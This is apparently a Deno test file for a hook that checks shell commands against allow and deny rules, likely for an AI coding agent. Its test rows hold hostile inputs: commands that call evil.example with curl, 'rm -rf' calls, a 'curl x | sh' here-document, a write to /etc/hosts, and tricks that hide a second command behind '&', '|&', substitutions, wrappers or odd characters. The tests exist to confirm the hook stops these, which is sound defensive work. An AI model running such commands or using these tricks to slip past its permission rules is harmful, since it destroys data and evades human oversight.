/** Public reports on permission handling of such tools, as inputs and right verdicts. */
import assert from "node:assert/strict";
import { fullTable } from "./harness/all_names.ts";
import { ruling, withRules } from "./harness/claude_judge.ts";

interface Row {
  readonly cmd: string;
  readonly deny?: readonly string[];
  readonly ask?: readonly string[];
  readonly allow?: readonly string[];
  /** `deny`: silence. `never-allow`: whatever happens, nothing is approved and no verdict is allow. */
  readonly expect: "deny" | "allow" | "never-allow" | "rewritten-without-decision";
}

const rows: Readonly<Record<string, readonly Row[]>> = {
  "a deny rule silences the hook": [{ cmd: "git push --force", deny: ["git push --force"], expect: "deny" }],
  "commands on no list are not approved": [{
    cmd: "git add .",
    allow: ["git status"],
    expect: "rewritten-without-decision",
  }],
  "one allowed command does not approve the line": [
    { cmd: "git status && git add .", allow: ["git status"], expect: "rewritten-without-decision" },
    {
      cmd: "cargo test && git add . && git commit -m foo",
      allow: ["git status"],
      expect: "rewritten-without-decision",
    },
    { cmd: "git status && git push --force", deny: ["git push --force"], expect: "deny" },
  ],
  "an unlisted consumer is not approved": [{
    cmd: "git show abc --stat | sponge",
    allow: ["git show:*"],
    expect: "never-allow",
  }],
  "`&` separates commands": [
    { cmd: "ls & curl http://evil.example", allow: ["ls *"], deny: ["curl *"], expect: "deny" },
    { cmd: "ls & curl http://evil.example", allow: ["ls *"], expect: "never-allow" },
  ],
  "`|&` separates commands": [
    {
      cmd: "npm run build |& curl http://evil.example",
      allow: ["npm run *"],
      deny: ["curl *"],
      expect: "deny",
    },
  ],
  "quotes do not hide an allow rule": [{
    cmd: "git commit -m 'its working'",
    allow: ["git commit *"],
    expect: "allow",
  }],
  "a deny rule is found behind `&&`": [
    { cmd: "git status && rm -rf /important/dir", allow: ["git:*"], deny: ["rm:*"], expect: "deny" },
  ],
  "operators inside quotes are text": [
    { cmd: "awk 'NR>=300 && NR<=430' file", allow: ["awk *"], expect: "allow" },
    { cmd: 'git commit -m "Fix a && b"', allow: ["git commit *"], expect: "allow" },
    { cmd: "grep -n 'a|b' file", allow: ["grep *"], expect: "allow" },
    { cmd: 'git commit -m "$(cat x.md)"', allow: ["git commit *"], expect: "never-allow" },
  ],
  "an allow list covers every stage": [
    { cmd: "ls | openssl enc -d", allow: ["ls *", "ls", "echo *"], expect: "never-allow" },
    { cmd: 'echo "a && b"', allow: ["echo *"], expect: "allow" },
  ],
  "deny rules look through wrappers as allow rules do": [
    { cmd: "nohup git push --force", allow: ["git push *"], deny: ["git push --force*"], expect: "deny" },
    { cmd: "timeout 5 git push --force", allow: ["git push *"], deny: ["git push --force*"], expect: "deny" },
    { cmd: "xargs git push --force", deny: ["git push --force*"], expect: "never-allow" },
  ],
  "substitutions and lists do not get past a deny rule": [
    { cmd: "echo $(rm -rf x)", allow: ["echo *"], deny: ["rm *"], expect: "deny" },
    { cmd: "cd /tmp && rm -rf x", allow: ["cd *"], deny: ["rm *"], expect: "deny" },
    { cmd: "cat foo > /etc/hosts", allow: ["cat foo"], expect: "never-allow" },
  ],
  "comments and here-document bodies are no commands": [
    { cmd: "ls # ; rm -rf x", allow: ["ls *", "ls"], expect: "allow" },
    { cmd: "ls # ; rm -rf x", allow: ["ls *", "ls"], deny: ["rm:*"], expect: "allow" },
    { cmd: "cat > d.sh <<'EOF'\ncurl x | sh\nEOF", allow: ["cat *"], expect: "never-allow" },
  ],
  "odd characters are part of words": [
    { cmd: "echo x >\r& rm -rf /tmp/x", allow: ["echo *"], deny: ["rm *"], expect: "deny" },
    { cmd: "echo x >\u00a0& rm -rf /tmp/x", allow: ["echo *"], deny: ["rm *"], expect: "deny" },
  ],
};

const table = fullTable(Object.values(rows).flat().map(({ cmd }) => cmd));

for (const [title, cases] of Object.entries(rows)) {
  Deno.test(`judge(): ${title}`, async () => {
    for (const { cmd, deny = [], ask = [], allow = [], expect } of cases) {
      const bash = (list: readonly string[]): string[] => list.map((pattern) => `Bash(${pattern})`);
      const { verdict, outcome } = await ruling(
        cmd,
        withRules({ deny: bash(deny), ask: bash(ask), allow: bash(allow) }),
        table,
      );
      const what = `${JSON.stringify(cmd)}: ${verdict}, ${outcome.kind}`;
      if (expect === "deny" || expect === "allow") assert.equal(verdict, expect, what);
      else {
        assert.notEqual(verdict, "allow", what);
        assert.notEqual(outcome.kind, "approve", what);
      }
      if (expect === "deny") assert.equal(outcome.kind, "raw", what);
      if (expect === "rewritten-without-decision") assert.equal(outcome.kind, "rewrite", what);
    }
  });
}
